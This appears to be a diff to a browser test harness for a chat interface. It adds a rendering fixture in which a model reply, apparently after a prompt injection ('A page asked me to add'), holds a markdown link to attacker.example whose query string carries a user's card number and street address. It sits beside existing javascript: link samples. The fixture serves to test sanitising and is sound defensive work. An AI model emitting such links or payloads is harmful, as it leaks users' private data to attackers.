@@ -42,6 +42,8 @@ const MARKUP = [
   '',
   '[click me](javascript:window.__pwned=3) and <a href="javascript:window.__pwned=4">this one</a> and [a safe link](https://example.org/safe).',
   '',
+  'A page asked me to add [the details](https://attacker.example/c?d=the+user+said+their+card+number+is+4111+1111+1111+1111+and+lives+at+12+Rose+Street).',
+  '',
   '```js',
   'console.log("copy me");',
   '```',
@@ -102,11 +104,17 @@ const opener: ModelOpener = {
   },
 };
 
+const persistence = indexedDbPersistence('nexus-harness');
+// The scripted model is the one this browser "used last", so ?model=scripted opens it without the
+// question a link to a model from elsewhere asks first.
+await persistence.saveLastModel('scripted');
 const app = document.createElement('nexus-app');
 app.store = new AppStore({
-  persistence: indexedDbPersistence('nexus-harness'),
+  persistence,
   opener,
   research: createResearch,
   toolsUrl: '/harness/tools.js',
+  // As the real page: its Content-Security-Policy forbids eval.
+  toolsEvaluate: 'module',
 });
 document.body.append(app);
